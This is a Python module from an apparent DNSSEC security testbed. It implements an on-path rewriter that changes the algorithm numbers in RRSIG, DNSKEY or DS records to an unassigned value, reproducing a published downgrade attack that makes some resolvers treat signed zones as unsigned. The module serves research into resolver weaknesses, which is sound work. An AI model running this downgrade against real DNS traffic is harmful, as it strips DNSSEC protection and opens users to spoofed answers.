"""Changes the algorithm numbers in DNSSEC records to one that nobody supports."""

from typing import Literal

import dns.rdatatype
import dns.rrset
from pydantic import Field

from testbed.attack.api import (
    Capability,
    MessageAction,
    Replace,
    Response,
    Rewriter,
    RewriterParameters,
)

Kind = Literal["RRSIG", "DNSKEY", "DS"]


class ChangeAlgorithmParameters(RewriterParameters):
    """In which records, and to what."""

    records: tuple[Kind, ...] = Field(
        ("RRSIG",), min_length=1, description="Types of records whose algorithm is changed."
    )
    algorithm: int = Field(
        200, ge=0, le=255, description="The number that they get; default: one that is not assigned."
    )


class ChangeAlgorithm(Rewriter):
    """Makes signed data look as if signed with an algorithm that the resolver does not know.

    A zone counts as unsigned only where an authenticated DS RRset names no algorithm that is supported (RFC
    4035 section 5.2). Resolvers were found that take an unknown algorithm in a signature for it.
    """

    capability = Capability.ON_PATH
    source = "Heftrig, Shulman and Waidner, Downgrading DNSSEC, USENIX Security 2023; RFC 4035 section 5.2"
    Parameters = ChangeAlgorithmParameters

    def response(self, response: Response) -> MessageAction:
        """Change what is there."""
        message = response.message
        types = {dns.rdatatype.from_text(name) for name in self.parameters.records}
        changed = False
        for section in (message.answer, message.authority, message.additional):
            for index, rrset in enumerate(section):
                if rrset.rdtype in types:
                    section[index] = self._changed(rrset)
                    changed = True
        if not changed:
            return None
        self.matched()
        return Replace(message)

    def _changed(self, rrset: dns.rrset.RRset) -> dns.rrset.RRset:
        records = [rdata.replace(algorithm=self.parameters.algorithm) for rdata in rrset]
        made = dns.rrset.from_rdata_list(rrset.name, rrset.ttl, records)
        made.covers = rrset.covers
        return made
